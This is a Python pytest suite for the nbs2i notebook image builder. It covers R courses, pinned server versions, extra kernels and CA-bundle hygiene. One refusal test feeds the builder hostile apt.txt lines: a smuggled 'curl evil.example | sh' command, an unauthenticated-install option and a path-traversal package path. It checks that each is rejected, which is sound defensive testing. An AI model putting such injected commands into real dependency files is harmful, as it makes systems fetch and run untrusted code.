"""A course's dependencies, on the real builders: an R course (Debian packages from
apt.txt, install.R, an R notebook run top to bottom), a course that pins what
the notebook server itself uses, an extra kernel, and what is refused. Every
image runs as a restricted platform runs it: a random UID with GID 0 and a
read-only root."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from nbs2i import restricted
from nbs2i.building import BuildResult, build
from nbs2i.ca import default_ca_bundle
from nbs2i.engine import Engine
from tests.support.builds import Events
from tests.support.builds import request as build_request
from tests.support.cli import fails, nbs2i
from tests.support.inside import run_restricted
from tests.support.layers import find_in_layers
from tests.support.leftovers import assert_nothing_left
from tests.support.session import SESSION_ID, label_args, tag
from tests.support.tracker import Tracker

pytestmark = pytest.mark.slow


def notebook(kernel: str, language: str, *sources: str) -> str:
    """An nbformat 4.5 notebook of code cells, with cell ids."""
    cells = [
        {
            "cell_type": "code",
            "execution_count": None,
            "id": f"cell-{i}",
            "metadata": {},
            "outputs": [],
            "source": source,
        }
        for i, source in enumerate(sources)
    ]
    meta = {"kernelspec": {"name": kernel, "display_name": kernel, "language": language}}
    return json.dumps({"cells": cells, "metadata": meta, "nbformat": 4, "nbformat_minor": 5})


def execute(engine: Engine, image: str, path: str, kernel: str = "") -> list[str]:
    """Run a notebook of the image top to bottom with nbconvert (the server
    environment's), as a random UID on a read-only root; its text outputs."""
    cmd = ["jupyter", "nbconvert", "--to", "notebook", "--execute", "--stdout", path]
    if kernel:
        cmd.append(f"--ExecutePreprocessor.kernel_name={kernel}")
    code, out = run_restricted(engine, image, cmd, restricted.random_uid())
    assert code == 0, out[-3000:]
    document = json.loads(out[out.index("{") :])
    return [
        "".join(o.get("text", "")) or json.dumps(o.get("data", {}))
        for cell in document["cells"]
        for o in cell.get("outputs", [])
    ]


def track_caches(track: Tracker, result: BuildResult) -> None:
    """The cache layers this build made (not ones it reused) are this test's."""
    for ref in reversed(result.caches_made):
        track.image(ref)


def test_an_r_course_with_debian_packages_runs_as_a_random_uid(
    engine: Engine, track: Tracker, r_builder: str, tmp_path: Path
) -> None:
    course = tmp_path / "r-course"
    course.mkdir()
    (course / "apt.txt").write_text("# JSON for R, from Debian\nr-cran-jsonlite\n")
    (course / "install.R").write_text(
        'writeLines("installed", file.path(.libPaths()[1], "nbs2i-course-marker"))\n'
    )
    (course / "statistics.ipynb").write_text(
        notebook(
            "ir",
            "R",
            "x <- c(2, 4, 4, 4, 5, 5, 7, 9)\ncat(sprintf('sd=%.3f\\n', sd(x)))",
            "cat(as.character(jsonlite::toJSON(list(course = 'stats'), auto_unbox = TRUE)))",
            "cat(readLines(file.path(.libPaths()[1], 'nbs2i-course-marker')))",
        )
    )
    out = track.image(tag("r-course"))
    events = Events()
    result = build(
        engine, build_request(course, out, r_builder, ca_bundle=default_ca_bundle()), events
    )
    track_caches(track, result)
    assert result.deps_image and any(
        "Installing Debian packages r-cran-jsonlite" in s for s in events.steps
    )
    outputs = execute(engine, out, "/opt/app-root/src/statistics.ipynb")
    assert "sd=2.138" in outputs[0]
    assert outputs[1] == '{"course":"stats"}'
    assert outputs[2].strip() == "installed"
    # Root installed the packages, and left no package lists or set-id files.
    script = (
        "echo lists=$(ls /var/lib/apt/lists | wc -l)"
        " setid=$(find / -xdev -perm /6000 -type f 2>/dev/null | wc -l)"
    )
    code, found = run_restricted(engine, out, ["sh", "-c", script], restricted.random_uid())
    assert code == 0 and "lists=0 setid=0" in found.splitlines(), found
    assert_nothing_left(engine)


def test_a_course_may_pin_what_the_server_uses(
    engine: Engine, track: Tracker, builder_image: str, tmp_path: Path
) -> None:
    course = tmp_path / "old-course"
    course.mkdir()
    (course / "requirements.txt").write_text(
        f"# {SESSION_ID}\njupyter_server==1.24.0\ntornado==6.1\n"
    )
    (course / "versions.ipynb").write_text(
        notebook(
            "python3",
            "python",
            "import jupyter_server, tornado\nprint(jupyter_server.__version__, tornado.version)",
        )
    )
    out = track.image(tag("pinned"))
    result = build(engine, build_request(course, out, builder_image, ca_bundle=default_ca_bundle()))
    track_caches(track, result)
    assert execute(engine, out, "/opt/app-root/src/versions.ipynb") == ["1.24.0 6.1\n"]
    # The server is still the builder's, authenticated, and ready for a restricted platform.
    checked = nbs2i("verify", out, "--format", "json", *label_args())
    assert checked.code == 0, checked.stdout[-3000:] + checked.stderr[-2000:]
    report = json.loads(checked.stdout)
    assert {c["id"]: c["result"] for c in report["checks"]}["api-auth"] == "pass"
    assert_nothing_left(engine)


def test_an_extra_kernel_with_its_own_packages(
    engine: Engine, track: Tracker, builder_image: str, tmp_path: Path
) -> None:
    course = tmp_path / "two-kernels"
    kernel = course / ".s2i" / "kernels" / "legacy"
    kernel.mkdir(parents=True)
    (kernel / "requirements.txt").write_text(f"# {SESSION_ID}\nsix==1.16.0\n")
    (kernel / "display-name").write_text("Python (six 1.16)\n")
    (course / "legacy.ipynb").write_text(
        notebook("legacy", "python", "import six, sys\nprint(six.__version__, sys.prefix)")
    )
    out = track.image(tag("two-kernels"))
    result = build(engine, build_request(course, out, builder_image, ca_bundle=default_ca_bundle()))
    track_caches(track, result)
    (printed,) = execute(engine, out, "/opt/app-root/src/legacy.ipynb", kernel="legacy")
    version, prefix = printed.split()
    assert version == "1.16.0" and prefix.endswith("/kernels/legacy")
    code, listing = run_restricted(
        engine, out, ["jupyter", "kernelspec", "list", "--json"], restricted.random_uid()
    )
    specs = json.loads(listing[listing.index("{") :])["kernelspecs"]
    assert code == 0 and {"python3", "legacy"} <= set(specs)
    assert specs["legacy"]["spec"]["display_name"] == "Python (six 1.16)"
    assert_nothing_left(engine)


@pytest.mark.parametrize(
    ("name", "text", "words"),
    [
        ("apt.txt", "vim; curl evil.example | sh\n", "is not a Debian package name"),
        ("apt.txt", "-o APT::Get::AllowUnauthenticated=1 vim\n", "is not a Debian package name"),
        ("apt.txt", "../../tmp/evil.deb\n", "is not a Debian package name"),
        ("environment.yml", "dependencies: [r-base]\n", "a conda package pip cannot install"),
        ("Pipfile", "[packages]\n", "Pipfile is not supported"),
    ],
)
def test_what_nbs2i_does_not_install_is_one_line_and_leaves_nothing(
    engine: Engine, builder_image: str, tmp_path: Path, name: str, text: str, words: str
) -> None:
    course = tmp_path / "course"
    course.mkdir()
    (course / "a.ipynb").write_text("{}")
    (course / name).write_text(text)
    out = tag("refused")
    err = fails(
        "build", str(course), out, "--builder", builder_image, *label_args("--container-label")
    )
    assert words in err.error_line
    assert not engine.image_exists(out)
    assert_nothing_left(engine)


def test_no_ca_bundle_or_apt_lists_reach_the_dependency_layer(
    engine: Engine, track: Tracker, builder_image: str, tmp_path: Path
) -> None:
    bundle = default_ca_bundle()
    if bundle is None:
        pytest.skip("no CA bundle on this machine ($PIP_CERT and friends unset)")
    course = tmp_path / "course"
    course.mkdir()
    (course / "requirements.txt").write_text(f"# {SESSION_ID}\nsix\n")
    out = track.image(tag("ca-free"))
    result = build(engine, build_request(course, out, builder_image, ca_bundle=bundle))
    track_caches(track, result)
    needle = bundle.read_bytes()[-400:]
    base = set(find_in_layers(engine, builder_image, [needle, b"ca-bundle.crt"]))
    assert set(find_in_layers(engine, out, [needle, b"ca-bundle.crt"])) - base == set()
    assert not {"PIP_CERT", "SSL_CERT_FILE"} & set(engine.inspect_image(out).config.env)
    assert_nothing_left(engine)
